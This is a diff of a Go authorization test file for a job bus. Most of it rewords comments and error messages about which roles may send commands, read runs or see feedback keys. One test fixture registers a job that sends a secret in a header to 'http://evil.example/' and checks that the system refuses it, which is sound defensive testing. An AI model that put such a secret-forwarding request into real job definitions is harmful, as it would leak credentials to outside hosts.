@@ -26,21 +26,21 @@ var (
 	client = bus.Principal{Tenant: "default", Role: bus.Client, Name: "shop"}
 )
 
-// A command or a question that is added to the words gets its row here, or this fails.
+// A new command or read gets its row here, or this fails.
 func TestEveryVerbHasItsRow(t *testing.T) {
 	for v := kernel.Verb(1); v.String() != "?"; v++ {
 		if _, ok := mayCommand[v]; !ok {
-			t.Errorf("command %s has no row: who may send it?", v)
+			t.Errorf("command %s has no row: which roles may send it?", v)
 		}
 	}
 	for v := verb(1); v.String() != "?"; v++ {
 		if _, ok := mayAsk[v]; !ok {
-			t.Errorf("question %s has no row: who may ask it?", v)
+			t.Errorf("question %s has no row: which roles may read it?", v)
 		}
 	}
 }
 
-// The whole table, as it is meant: who may send what.
+// The whole table of commands and the roles that may send them.
 func TestAuthority(t *testing.T) {
 	id := jobs.ID{1}
 	for _, c := range []struct {
@@ -159,7 +159,7 @@ func register(app, worker string, key jobs.Key) kernel.Register {
 	return kernel.Register{App: app, Worker: worker, Start: true, Job: kernel.Declaration{Key: key, Kind: kernel.Triggered}}
 }
 
-// A worker that tells lies is refused, and what it may do is done in its own name.
+// A worker with false claims is refused; what it may do happens in its own name.
 func TestWorkerThatLies(t *testing.T) {
 	h := newHouse(t, Config{})
 	w, c, n := h.as(worker), h.as(client), h.as(node)
@@ -167,7 +167,7 @@ func TestWorkerThatLies(t *testing.T) {
 	steal := register("billing", "billing-1", "steal")
 	steal.Job.Code.HTTP = new(json.RawMessage(`{"request":[{"url":"http://evil.example/","headers":{"X":"${secret:KEY}"}}]}`))
 	h.refused(t, w, steal, jobs.BadInput)
-	// Only the worker that has a run starts notifications about it, and nobody any other run of a system job.
+	// Only the worker that has a run starts notifications about it, and no worker starts other runs of system jobs.
 	notify := kernel.NotifyKey("billing")
 	h.must(t, w, register("billing", "billing-1", notify))
 	h.refused(t, w, register("billing", "billing-1", kernel.NotifyKey("shipping")), jobs.BadInput)
@@ -187,7 +187,7 @@ func TestWorkerThatLies(t *testing.T) {
 	if kept, err := n.Run(t.Context(), "default", run); err != nil || kept.Actor != "client:shop" {
 		t.Errorf("kept %+v, %v", kept, err)
 	}
-	// The ID of what will follow from something else is nobody's to take before.
+	// Clients cannot take the computed ID of a follow-up run in advance.
 	for _, id := range []jobs.ID{kernel.ChildID(&kernel.Run{Tenant: "default", ID: run}, "receipt"), kernel.DueID("default", r.Job, time.Now(), 0, 0)} {
 		for _, s := range []metastore.Store{w, c} {
 			h.refused(t, s, kernel.Create{ID: id, Key: "charge"}, jobs.Forbidden)
@@ -233,7 +233,7 @@ func TestWorkerThatLies(t *testing.T) {
 	if kept, err := n.Run(t.Context(), "default", run); err != nil || string(kept.Result) != `"ok"` {
 		t.Errorf("kept %v, %v", kept, err)
 	}
-	// After a cancel, the attempt is over.
+	// After a cancel, the attempt is finished.
 	other := jobs.ID{8}
 	h.must(t, c, kernel.Create{ID: other, Key: "charge"})
 	h.must(t, w, kernel.Claim{ID: other, Worker: "billing-1", Attempt: 1})
@@ -277,8 +277,8 @@ func TestTenantsAndActors(t *testing.T) {
 	}
 }
 
-// Where a run comes from is the connection's, whatever the command says: from a program, or from a run of its own that it
-// names.
+// The origin of a run comes from the connection, whatever the command claims: a program, or a run of its own as
+// parent.
 func TestOriginsAreTheConnections(t *testing.T) {
 	h := newHouse(t, Config{Kept: true})
 	w, c, n := h.as(worker), h.as(client), h.as(node)
@@ -391,7 +391,7 @@ func TestWorkersStayInTheirApp(t *testing.T) {
 	h.must(t, billing, kernel.Finish{ID: run, Worker: "billing-1", Attempt: 1, Outcome: kernel.OutcomeSuccess})
 }
 
-// sees fails if a client is told by which key words about a run are known, or a worker is not.
+// sees fails if a client gets the key that authenticates feedback about the run, or a worker does not.
 func (h *house) sees(t *testing.T, run jobs.ID) {
 	t.Helper()
 	for as, keyed := range map[bus.Principal]bool{client: false, {Tenant: "default", Role: bus.Worker, Name: "billing", App: "billing"}: true} {
@@ -407,14 +407,14 @@ func (h *house) sees(t *testing.T, run jobs.ID) {
 		} else {
 			for _, r := range page.Runs {
 				if r.Feedback != nil {
-					t.Error("a client is told a key in a list")
+					t.Error("a list for a client has a key")
 				}
 			}
 		}
 	}
 }
 
-// A name that goes to another app does not take along what it held in the first: nobody ends another app's runs.
+// A worker name that moves to another app does not keep its old runs: it cannot end another app's runs.
 func TestANameThatGoesToAnotherApp(t *testing.T) {
 	h := newHouse(t, Config{Kept: true})
 	h1 := h.as(bus.Principal{Tenant: "default", Role: bus.Worker, Name: "h1", App: "billing"})
@@ -431,12 +431,12 @@ func TestANameThatGoesToAnotherApp(t *testing.T) {
 	}
 }
 
-// A worker of which the bus does not say the app may nothing.
+// A worker without an app, as the bus sees it, may do nothing.
 func TestAWorkerOfNoApp(t *testing.T) {
 	h := newHouse(t, Config{Kept: true})
-	nobody := h.as(bus.Principal{Tenant: "default", Role: bus.Worker, Name: "billing"})
-	h.refused(t, nobody, register("billing", "billing", "charge"), jobs.Forbidden)
-	if _, err := nobody.Definition(t.Context(), "", "charge"); !errors.Is(err, jobs.Forbidden) {
+	nowhere := h.as(bus.Principal{Tenant: "default", Role: bus.Worker, Name: "billing"})
+	h.refused(t, nowhere, register("billing", "billing", "charge"), jobs.Forbidden)
+	if _, err := nowhere.Definition(t.Context(), "", "charge"); !errors.Is(err, jobs.Forbidden) {
 		t.Errorf("reading: %v", err)
 	}
 }
@@ -457,11 +457,11 @@ func TestAnswersHoldOwnRunsOnly(t *testing.T) {
 		t.Errorf("%d runs in the answer, %+v", len(e.Runs), e.Summary)
 	}
 	if run, err := h.store.Run(t.Context(), "default", jobs.ID{2}); err != nil || !run.Holds || string(run.Args) != `{"secret":1}` {
-		t.Errorf("the slot was not handed on, or the row was trimmed: %+v, %v", run, err)
+		t.Errorf("the slot was not passed on, or the row was trimmed: %+v, %v", run, err)
 	}
 }
 
-// Whoever is refused all the time neither fills the log nor keeps the store busy.
+// A client that is refused all the time neither fills the log nor keeps the store busy.
 func TestFloodsOfWhatIsRefused(t *testing.T) {
 	var said bytes.Buffer
 	h := newHouse(t, Config{Logger: slog.New(slog.NewTextHandler(&said, nil))})
